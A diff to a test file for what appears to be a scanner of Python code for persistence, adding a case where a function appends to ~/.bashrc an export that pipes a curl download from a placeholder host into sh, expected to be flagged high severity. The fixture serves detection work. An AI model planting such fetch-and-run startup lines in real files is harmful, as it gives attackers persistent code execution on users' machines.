@@ -336,6 +336,11 @@ test('an autostart place named in a function that downloads is high even when ca
     'import os\ndef install_completion():\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write(\'eval "$(register-python-argcomplete tool)"\\nexport PATH="$PATH:$HOME/.local/bin"\\n\')\n',
   );
   assert.equal(ruleOf(completion, 'persistence')?.severity, 'low');
+  // an export that runs a download is no set-up line
+  const exported = findings(
+    'import os\ndef colors():\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write("export X=$(curl -s https://h.example/p | sh)\\n")\n',
+  );
+  assert.equal(ruleOf(exported, 'persistence')?.severity, 'high');
 });
 
 test('bytes([...]) lists are read as the text they spell: a module name hidden as byte values is found', () => {
